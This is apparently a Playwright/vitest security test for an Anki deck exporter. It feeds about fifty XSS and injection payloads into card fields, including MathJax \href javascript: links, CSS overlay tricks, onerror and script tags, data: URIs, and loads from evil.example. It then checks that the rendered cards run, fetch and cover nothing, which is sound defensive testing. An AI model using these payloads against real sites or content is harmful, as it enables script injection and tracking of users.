import { type Bank, BankSchema } from '@quizdeck/core';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CARD_CSS, exportDeck } from '../src/index';
import { launchChromium } from './browser';
import {
  ANKI_MATHJAX_CONFIGS,
  type MathJaxConfigName,
  type MathJaxReviewer,
  openMathJaxReviewer,
} from './mathjax-reviewer';
import { type ReadApkg, readApkg } from './read-apkg';
import { renderCard } from './render-template';

// Each payload goes into every field of its own note: prompt, options, explanation, dispute and
// comment, and the passage's title, body and worked notes. `N` is the payload's number, so a
// payload that runs says which one it was.
const PAYLOADS = [
  '$\\href{javascript:window.__pwned=N}{tap}$',
  '\\\\(\\href{javascript:window.__pwned=N}{tap}\\\\)',
  '&#92;(\\href{javascript:window.__pwned=N}{tap}&#92;)',
  '&bsol;(\\href{javascript:window.__pwned=N}{tap}&bsol;)',
  '&#x5c;[\\href{javascript:window.__pwned=N}{tap}&#x5C;]',
  '\\(\\href{javascript:window.__pwned=N}{tap}\\)',
  '$$\\href{javascript:window.__pwned=N}{tap}$$',
  '\\[\\style{position:fixed;top:0;left:0;width:100vw;height:100vh;background:red}{cover}\\]',
  '$\\style{position:fixed;inset:0;z-index:9;background:red}{cover}$',
  '$\\cssId{qd-back}{forged}$',
  '$\\class{qd-back qd-card}{x}$',
  '$\\unicode[Comic Sans]{x1F600}$',
  '$\\require{action}\\toggle{a}{b}\\endtoggle$',
  '$\\data{pwned=N}{x}$',
  '$\\mmlToken{mi}[href="javascript:window.__pwned=N"]{x}$',
  '$\\def\\x{\\href{javascript:window.__pwned=N}{x}}\\x$',
  '$\\newcommand{\\x}{\\href{javascript:window.__pwned=N}{x}}\\x$',
  '$\\let\\h\\href \\h{javascript:window.__pwned=N}{x}$',
  '$\\begin{array}{c}\\href{javascript:window.__pwned=N}{x}\\end{array}$',
  '$\\text{\\href{javascript:window.__pwned=N}{x}}$',
  '$a\\) \\(\\href{javascript:window.__pwned=N}{x}$',
  '$\\bbox[background:url(https://evil.example/bbox.png)]{x}$',
  '$\\enclose{circle}[style="position:fixed;inset:0"]{x}$',
  '$\\colorbox{red}{\\color{red}x}$',
  '$\\mathtip{x}{tip}$',
  '$\\tag{x}\\label{qd-back}x$',
  '\\begin{equation}\\href{javascript:window.__pwned=N}{x}\\end{equation}',
  '\\ref{x} \\eqref{y} $\\ref{z}$',
  '<img src=x onerror="window.__pwned=N">',
  '<script>window.__pwned=N</script>',
  '[tap](javascript:window.__pwned=N)',
  '[tap](JAVASCRIPT:window.__pwned=N)',
  '![tracker](https://evil.example/track.png)',
  '![](//evil.example/pixel.gif)',
  '[an ordinary link](https://example.org/reading)',
  '<a href="javascript:window.__pwned=N">x</a>',
  '{{Front}} {{#Id}}x{{/Id}} {{FrontSide}}',
  '$x$ \\\\$\\href{javascript:window.__pwned=N}{x}$',
  '`\\(\\href{javascript:window.__pwned=N}{x}\\)`',
  '<style>*{display:none}</style>',
  '<div style="position:fixed;inset:0">x</div>',
  '$\\unicode{x3C}script\\unicode{x3E}$',
  '$\\frac{\\href{javascript:window.__pwned=N}{a}}{b}$',
  '&lt;img src=x onerror=window.__pwned=N&gt;',
  '![x](data:image/svg+xml,<svg onload=window.__pwned=N>)',
  '[x](data:text/html,<script>window.__pwned=N</script>)',
  '$\\require{https://evil.example/ext.js}$',
  '$\\href{https://evil.example/}{x}$',
  '\\\\[\\cssId{qd-back}{x}\\\\]',
  '$\\sqrt{\\style{display:none}{x}}$ and a [link](https://example.org/ok)',
].map((p, i) => p.replaceAll('window.__pwned=N', `window.__pwned=${i + 1}`));

function payloadBank(): Bank {
  return BankSchema.parse({
    id: 'payloads',
    title: 'Payloads {{Front}}',
    contexts: PAYLOADS.map((p, i) => ({ id: `c${i + 1}`, title: p, body: p, notes: p })),
    questions: [
      ...PAYLOADS.map((p, i) => ({
        id: `p${i + 1}`,
        context: `c${i + 1}`,
        prompt: p,
        options: [
          { key: 'A', text: p },
          { key: 'B', text: `plain and ${p}` },
        ],
        answer: ['A'],
        multiple: false,
        explanation: p,
        notes: [
          { kind: 'dispute', text: p },
          { kind: 'comment', text: p },
        ],
      })),
      {
        id: 'allowed',
        prompt: 'With $W_{hh} = \\frac{a}{b}$ and $$\\begin{pmatrix} a & b \\end{pmatrix}$$',
        options: [
          { key: 'A', text: '$\\sqrt{2}$' },
          { key: 'B', text: 'two' },
        ],
        answer: ['A'],
        multiple: false,
      },
    ],
  });
}

let browser: Browser;
let deck: ReadApkg;
beforeAll(async () => {
  const bank = payloadBank();
  const loaded = {
    file: '/nonexistent/payloads.json',
    bank,
    locations: { questions: {} },
    diagnostics: [],
  };
  deck = await readApkg((await exportDeck([loaded], { time: 1_750_000_000 })).apkg);
  browser = await launchChromium();
}, 60_000);
afterAll(async () => {
  await browser?.close();
});

function card(index: number): { front: string; back: string; fields: string[] } {
  const model = Object.values(deck.models)[0];
  const note = deck.notes[index];
  const template = model?.tmpls[0];
  if (!model || !note || !template) throw new Error(`no note ${index}`);
  const fields = Object.fromEntries(model.flds.map((f, i) => [f.name, note.flds[i] ?? '']));
  return { ...renderCard(template, fields), fields: note.flds };
}

interface Inspection {
  pwned: unknown;
  url: string;
  ids: string[];
  covering: string[];
  anchors: string[];
}

/** What a side shows after typesetting and a click on every element in it. */
async function inspect(view: MathJaxReviewer): Promise<Inspection> {
  return view.page.evaluate(async () => {
    const qa = document.getElementById('qa') as HTMLElement;
    const box = qa.getBoundingClientRect();
    const covering: string[] = [];
    for (const el of Array.from(qa.querySelectorAll('*'))) {
      const css = getComputedStyle(el);
      const r = el.getBoundingClientRect();
      const big = r.width * r.height > 4;
      // Long words may run past the right edge; nothing may reach above or left of the card.
      const outside = r.left < box.left - 2 || r.top < box.top - 2;
      const lifted =
        css.position === 'fixed' || css.position === 'sticky' || css.position === 'absolute';
      // MathJax's own copy for screen readers is absolutely placed and clipped to a pixel.
      if (big && (lifted || outside) && el.tagName !== 'MJX-ASSISTIVE-MML')
        covering.push(`${el.tagName} ${css.position} ${r.width}x${r.height}`);
      if (css.zIndex !== 'auto' || css.backgroundImage !== 'none')
        covering.push(`${el.tagName} z-index ${css.zIndex} background ${css.backgroundImage}`);
    }
    const ids = Array.from(qa.querySelectorAll('[id]')).map((e) => e.id);
    const anchors = Array.from(qa.querySelectorAll('a[href]')).map(
      (a) => `${a.closest('mjx-container') ? 'math ' : ''}${(a as HTMLAnchorElement).href}`,
    );
    for (const el of Array.from(qa.querySelectorAll('*'))) {
      if (el instanceof HTMLElement) el.click();
      else el.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    }
    await new Promise((done) => setTimeout(done, 50));
    return {
      pwned: (window as { __pwned?: unknown }).__pwned,
      url: location.href,
      ids,
      covering,
      anchors,
    };
  });
}

const configs = Object.keys(ANKI_MATHJAX_CONFIGS) as MathJaxConfigName[];

describe.each(configs)('payload cards in Chromium, MathJax as Anki desktop (%s)', (config) => {
  let view: MathJaxReviewer;
  beforeAll(async () => {
    view = await openMathJaxReviewer(browser, CARD_CSS, config);
  }, 60_000);

  it('the harness would see a raw \\href run, an id forged and a cover', async () => {
    await view.showTypeset(
      '<div id="qd-back">real</div>\\(\\href{javascript:window.__pwned=-1}{tap}\\) \\(\\cssId{qd-back}{x}\\) \\(\\style{position:fixed;inset:0}{cover}\\)',
    );
    const seen = await inspect(view);
    expect(seen.pwned).toBe(-1);
    expect(seen.ids.filter((id) => id === 'qd-back')).toHaveLength(2);
    expect(seen.covering.join('\n')).toContain('fixed');
    await view.page.evaluate(() => {
      delete (window as { __pwned?: unknown }).__pwned;
    });
  });

  it(`runs no payload of ${PAYLOADS.length}, forges no id, covers nothing, fetches nothing`, async () => {
    const found: string[] = [];
    const origin = view.page.url();
    for (let i = 0; i < PAYLOADS.length; i++) {
      const { front, back, fields } = card(i);
      expect(fields.join(''), 'a brace in a note field').not.toMatch(/[{}]/);
      for (const [side, html, wantIds] of [
        ['front', front, []],
        ['back', back, ['answer', 'qd-back']],
      ] as const) {
        const before = view.remote.length;
        await view.showTypeset(html);
        const fetched = view.remote.slice(before).map((r) => r.url());
        const seen = await inspect(view);
        // A tapped link's request can come after the click returns.
        await view.page.waitForTimeout(seen.anchors.length > 0 ? 200 : 20);
        const clicked = view.remote.slice(before + fetched.length);
        const where = `payload ${i + 1} ${JSON.stringify(PAYLOADS[i])} ${side}`;
        if (seen.pwned !== undefined) found.push(`${where}: ran code (__pwned=${seen.pwned})`);
        if (seen.url !== origin) found.push(`${where}: navigated to ${seen.url}`);
        if (fetched.length > 0) found.push(`${where}: fetched ${fetched.join(', ')}`);
        if (seen.covering.length > 0) found.push(`${where}: covers ${seen.covering.join('; ')}`);
        if (seen.ids.join() !== wantIds.join()) found.push(`${where}: ids ${seen.ids.join()}`);
        // Markdown links and remote images (shown as links) may be http(s); math makes none.
        for (const a of seen.anchors)
          if (!/^https?:\/\//.test(a)) found.push(`${where}: link ${a}`);
        // A tap on such a link may open it; nothing else may leave the card.
        for (const r of clicked)
          if (!r.isNavigationRequest() || !seen.anchors.includes(r.url()))
            found.push(`${where}: a click fetched ${r.url()}`);
        if (view.dialogs.length > 0)
          found.push(`${where}: dialog ${view.dialogs.splice(0).join()}`);
        if (view.errors.length > 0) found.push(`${where}: ${view.errors.splice(0).join()}`);
        if (view.page.url() !== origin) await view.page.goBack();
      }
    }
    expect(found).toEqual([]);
  }, 240_000);

  it('still typesets the math it allows', async () => {
    await view.showTypeset(card(PAYLOADS.length).front);
    expect(await view.page.locator('.qd-question mjx-container').count()).toBe(2);
    expect(await view.page.locator('.qd-question mjx-mfrac').count()).toBe(1);
    expect(await view.page.locator('.qd-question mjx-mtable').count()).toBe(1);
    expect(await view.page.locator('.qd-options mjx-msqrt').count()).toBe(1);
  });
});
